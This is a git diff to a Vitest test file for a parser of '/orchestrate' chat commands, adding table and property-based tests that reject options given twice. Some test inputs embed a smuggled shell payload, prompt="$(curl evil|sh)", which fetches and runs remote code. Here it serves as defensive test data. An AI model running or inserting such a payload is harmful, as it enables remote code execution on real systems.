@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { parseOrchestrateCommand } from './parse-orchestrate-command';
 
@@ -7,7 +8,6 @@ describe('parseOrchestrateCommand', () => {
     ['/orchestrate 276', 276],
     ['/orchestrate issue=276', 276],
     ['/orchestrate issue=#276', 276],
-    ['/orchestrate #276 issue=276', 276],
   ])('reads the target issue from %s', (body, issue) => {
     expect(parseOrchestrateCommand(body, { defaultIssue: 1 })).toMatchObject({
       ok: true,
@@ -40,7 +40,7 @@ describe('parseOrchestrateCommand', () => {
       ok: true,
       value: { issue_number: 7, prompt: 'triage', wave: 'wave2', mode: 'plan', dry_run: true },
     });
-    expect(parseOrchestrateCommand('/orchestrate #7 dry-run=true dry-run=false')).toMatchObject({
+    expect(parseOrchestrateCommand('/orchestrate #7 dry-run=false')).toMatchObject({
       ok: true,
       value: { dry_run: false },
     });
@@ -102,6 +102,68 @@ describe('parseOrchestrateCommand', () => {
       ok: false,
       error: { column: 17, message: 'column 17: mode="x" is not one of plan, dispatch' },
     });
+  });
+
+  it.each([
+    ['/orchestrate #7 dry-run=true dry-run=false', 30, 'option "dry-run"'],
+    ['/orchestrate #7 dry-run dry-run=false', 25, 'option "dry-run"'],
+    ['/orchestrate #7 dry-run=false dry-run', 31, 'option "dry-run"'],
+    ['/orchestrate #276 issue=276', 19, 'option "issue"'],
+    ['/orchestrate 276 #276', 18, 'option "issue"'],
+    ['/orchestrate #1 prompt="$(curl evil|sh)" prompt=triage', 42, 'option "prompt"'],
+    ['/orchestrate #1 prompt=triage prompt="$(curl evil|sh)"', 31, 'option "prompt"'],
+  ])('rejects %s: an option given twice, at the second (column %i)', (body, column, what) => {
+    const result = parseOrchestrateCommand(body);
+    expect(result).toMatchObject({ ok: false, error: { code: 'repeated_option', column } });
+    if (!result.ok) expect(result.error.message).toContain(`${what} is given more than once`);
+  });
+
+  it('lets the comment override a static argument, once', () => {
+    expect(
+      parseOrchestrateCommand('/orchestrate #3 dry-run=false', { staticArgs: 'dry-run' }),
+    ).toMatchObject({ ok: true, value: { dry_run: false } });
+    expect(
+      parseOrchestrateCommand('/orchestrate #3 dry-run=false dry-run', { staticArgs: 'dry-run' }),
+    ).toMatchObject({ ok: false, error: { code: 'repeated_option', column: 31 } });
+  });
+
+  it('rejects every command that gives an option twice, in any form, at the second', () => {
+    const forms: Record<string, fc.Arbitrary<string>> = {
+      issue: fc.constantFrom('#5', '5', 'issue=5', 'issue=#5'),
+      prompt: fc.constantFrom('prompt=triage', 'prompt=x.y'),
+      wave: fc.constantFrom('wave=w2', 'wave=a:b'),
+      mode: fc.constantFrom('mode=plan', 'mode=dispatch'),
+      'dry-run': fc.constantFrom('dry-run', 'dry-run=true', 'dry-run=false'),
+    };
+    const again = (option: string) =>
+      fc.oneof(forms[option] as fc.Arbitrary<string>, fc.constant(`${option}="$(curl evil|sh)"`));
+    fc.assert(
+      fc.property(
+        fc.shuffledSubarray(Object.keys(forms), { minLength: 1 }).chain((options) =>
+          fc.tuple(
+            fc.tuple(...options.map((option) => forms[option] as fc.Arbitrary<string>)),
+            fc
+              .nat({ max: options.length - 1 })
+              .chain((first) =>
+                fc.tuple(
+                  fc.constant(first),
+                  fc.integer({ min: first + 1, max: options.length }),
+                  again(options[first] ?? ''),
+                ),
+              ),
+          ),
+        ),
+        ([words, [, at, repeat]]) => {
+          const all = [...words];
+          all.splice(at, 0, repeat);
+          const column = `/orchestrate ${all.slice(0, at).join(' ')} `.length + 1;
+          // A positional issue repeated as the other positional form is still the same option.
+          const result = parseOrchestrateCommand(`/orchestrate ${all.join(' ')}`);
+          expect(result).toMatchObject({ ok: false, error: { code: 'repeated_option', column } });
+        },
+      ),
+      { seed: 1203, numRuns: 400 },
+    );
   });
 
   it('says a bad static argument came from configuration', () => {
